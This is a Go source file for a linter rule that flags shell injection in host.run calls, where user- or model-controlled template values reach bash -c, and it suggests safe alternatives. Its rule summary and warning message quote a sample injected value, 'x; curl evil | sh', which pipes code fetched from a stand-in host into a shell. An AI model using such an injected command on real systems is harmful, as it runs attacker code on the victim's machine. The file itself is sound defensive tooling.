package lint

import (
	"maps"
	"slices"
	"strconv"
	"strings"

	"kitsoki/pkg/diag"
	"kitsoki/pkg/story"
)

var ruleShellInjection = &Rule{ID: "shell-injection", Severity: diag.Warning, LintOnly: true,
	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value; a world key as the import fold scopes it, so a child's declared key is its own): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). The script a shell's -c runs in argv mode (cmd: bash, args: [-c, SCRIPT]) is checked the same way. Templates in env:, stdin: and cwd: are not checked. A slot with values: read in its own intent's arc is trusted (a run refuses any other value), unless an emit_intent gives it a template; an integer, number or boolean slot is not (its type is checked only under run --strict)",
	Example: "- invoke: host.run\n  with: {cmd: \"echo {{ slots.text }}\"}"}

// checkShellInjection warns at each untrusted read inside the line a
// shell-mode host.run gives bash -c (ruleShellInjection).
func checkShellInjection(c *checker) {
	if c.expanded {
		return // the unexpanded check saw the same calls
	}
	c.eachEffect(func(e *story.Effect, site effSite) {
		if e.Invoke != "host.run" || e.With == nil || site.Inline {
			return
		}
		mode, shell := runShellMode(e.With)
		for _, sc := range runShellScalars(e.With) {
			how, fix, label := "host.run runs its line through bash -c ("+mode+")", argvFix, sc.field
			if !shell {
				how, fix = "host.run's "+e.With["cmd"].(string)+" -c runs "+sc.field+" as a shell script", operandFix
			}
			if label == "cmd" {
				label = "cmd:"
			}
			c.shellScalar(e, site, how, fix, label, sc.text)
		}
	})
}

// runScalar is one text of a host.run's with: that a shell parses, with
// the with: field it is (cmd, args[1]).
type runScalar struct{ field, text string }

// runShellScalars is what a shell parses of a host.run's with: the line
// bash -c runs in shell mode (cmd and args), or in argv mode the script
// of a shell's -c (shellScriptArg).
func runShellScalars(with map[string]any) []runScalar {
	if _, shell := runShellMode(with); !shell {
		if i, script, ok := shellScriptArg(with); ok {
			return []runScalar{{"args[" + strconv.Itoa(i) + "]", script}}
		}
		return nil
	}
	var out []runScalar
	if s, ok := with["cmd"].(string); ok {
		out = append(out, runScalar{"cmd", s})
	}
	if args, ok := with["args"].([]any); ok {
		for i, a := range args {
			if s, ok := a.(string); ok {
				out = append(out, runScalar{"args[" + strconv.Itoa(i) + "]", s})
			}
		}
	}
	return out
}

// runShellMode reports whether host.run's with: runs its line through
// bash -c (pkg/host parseRunSpec) and why, for the message.
func runShellMode(with map[string]any) (mode string, shell bool) {
	raw, has := with["args"]
	if b, ok := with["shell"].(bool); ok {
		if b {
			return "shell: true", true
		}
		return "", false
	}
	if has && raw != nil {
		return "", false
	}
	return "it has no args:", true
}

// The message's second fix: argv mode, or for a shell's -c script, the
// value as an operand after it ($1).
const (
	argvFix    = "run in argv mode (args: [...] without shell: true)"
	operandFix = "pass it as an operand after the script (args: [\"-c\", \"... \\\"$1\\\"\", \"sh\", \"{{ value }}\"])"
)

// shellScript is the base names of the shells whose -c runs its operand.
var shellScript = map[string]bool{"sh": true, "bash": true, "dash": true, "zsh": true, "ksh": true, "ash": true, "mksh": true}

// shellScriptArg finds, in an argv-mode host.run whose cmd: is a shell
// (cmd: bash, args: ["-c", SCRIPT, ...]), the script -c runs: argv mode
// runs no shell of its own, but that one parses its script as shell. A
// combined flag (-ec, -lc) counts; the operands after the script are $0,
// $1... and stay data.
func shellScriptArg(with map[string]any) (int, string, bool) {
	cmd, _ := with["cmd"].(string)
	args, _ := with["args"].([]any)
	base := strings.TrimSuffix(cmd[strings.LastIndexAny(cmd, `/\`)+1:], ".exe")
	if !shellScript[base] {
		return 0, "", false
	}
	for i := 0; i < len(args); i++ {
		flag, _ := args[i].(string)
		switch {
		case flag == "-o" || flag == "+o" || flag == "-O" || flag == "+O":
			i++ // an option name follows (-o pipefail)
		case flag == "--" || !strings.HasPrefix(flag, "-") && !strings.HasPrefix(flag, "+"):
			return 0, "", false // operands begin: a script file, not -c
		case flag[0] == '-' && !strings.HasPrefix(flag, "--") && strings.Contains(flag, "c") && i+1 < len(args):
			script, ok := args[i+1].(string)
			return i + 1, script, ok
		}
	}
	return 0, "", false
}

// shellScalar reports the untrusted reads of one scalar of the shell line.
func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, src string) {
	if !strings.Contains(src, "{") {
		return
	}
	said := map[string]bool{}
	for _, r := range templateReads(src) {
		if said[r.text] {
			continue
		}
		what := c.untrusted(r, site.EffectPlace)
		if what == "" {
			continue
		}
		said[r.text] = true
		line, col := lineCol(src, r.off)
		name, subject := envName(r.text), r.text
		if r.root == "world" {
			subject = "world." + r.key
		}
		c.rep.WarnAt(c.src.valuePos(e.WithPos(strings.TrimSuffix(field, ":")), src, line, col), site.Place(), ruleShellInjection, "%s: %s, and %s in %s puts %s into it: %s is %s, and a value like `x; curl evil | sh` runs as a command; pass it through env: (env: {%s: \"{{ %s }}\"}, and \"$%s\" double-quoted in the script) or %s", site.String(), how, r.tag, field, r.text, subject, what, name, r.text, name, fix)
	}
}

// untrusted says where the value of an untrusted read comes from ("" for
// a trusted one). A world read is untrusted when the folded key it names
// is, in any place the story takes in the folded tree (foldScope).
func (c *checker) untrusted(r tplRead, p *story.EffectPlace) string {
	if r.root == "slots" {
		return c.slotTrust(p, r)
	}
	if r.root != "world" {
		return untrustedRoots[r.root]
	}
	if c.src.taint == nil {
		c.src.taint = treeTaint(c.src, c.st)
	}
	tw := c.src.taint
	for _, sc := range tw.scopes[c.st] {
		if t, ok := tw.keys[sc.readKey(r)]; ok {
			return t.String()
		}
	}
	if tw.partial { // a tree the fold refuses, not walked whole: by name
		if tw.names == nil {
			tw.names = slices.Sorted(maps.Keys(tw.keys))
		}
		for _, k := range tw.names {
			if k == r.key || strings.HasSuffix(k, "__"+r.key) {
				return tw.keys[k].String()
			}
		}
	}
	return ""
}

// untrustedRoots are the template roots whose values a user, a model or
// another program gives, with what they hold.
var untrustedRoots = map[string]string{
	"slots":  "what a user typed",
	"event":  "the payload of the event that fired",
	"inbox":  "the run's notifications",
	"result": "a host or agent call's output",
}

// envName is an environment variable name for a read (slots.text: TEXT).
func envName(text string) string {
	last := text[strings.LastIndexByte(text, '.')+1:]
	b := []byte(strings.ToUpper(last))
	for i, ch := range b {
		if !(ch == '_' || ch >= 'A' && ch <= 'Z' || ch >= '0' && ch <= '9') {
			b[i] = '_'
		}
	}
	if len(b) == 0 || b[0] >= '0' && b[0] <= '9' {
		return "VALUE"
	}
	return string(b)
}
